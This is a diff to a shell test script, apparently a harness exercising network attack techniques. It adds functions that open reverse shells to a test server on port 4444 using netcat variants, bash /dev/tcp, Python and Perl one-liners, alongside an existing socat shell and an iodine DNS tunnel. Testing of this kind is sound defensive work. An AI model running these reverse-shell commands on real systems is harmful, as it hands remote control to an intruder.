@@ -20,6 +20,25 @@ socat_pty_shell() {
     in_agent env -i -C / PATH="$PATH" PS1='$ ' socat "TCP:$server:4444" \
         EXEC:'/bin/bash --norc -i',pty,stderr,setsid,sigint,sane || true
 }
+# The same by what else starts a shell so.
+shell_by() { # COMMAND…
+    types_commands
+    in_agent env -i -C / PATH="$PATH" PS1='$ ' "$@" || true
+}
+nc_shell() { shell_by nc.traditional -e /bin/sh "$server" 4444; }
+busybox_shell() { shell_by busybox nc "$server" 4444 -e /bin/sh; }
+ncat_shell() { shell_by ncat -e /bin/sh "$server" 4444; }
+bash_shell() { shell_by bash -c "bash --norc -i >& /dev/tcp/$server/4444 0>&1"; }
+python_shell() {
+    shell_by /usr/bin/python3 -c "import os, pty, socket
+s = socket.create_connection(('$server', 4444))
+for fd in range(3): os.dup2(s.fileno(), fd)
+pty.spawn(['/bin/bash', '--norc'])"
+}
+perl_shell() {
+    shell_by perl -MSocket -e "socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(4444, inet_aton('$server'))) or die;
+        open(STDIN, '<&S'); open(STDOUT, '>&S'); open(STDERR, '>&S'); exec('/bin/sh -i');"
+}
 iodine_tunnel() {
     serve - iodined -f -P secret 198.51.100.1/27 t.example.net
     until_ok in_server sh -c 'ss -Hlun "sport = :53" | grep -q .'
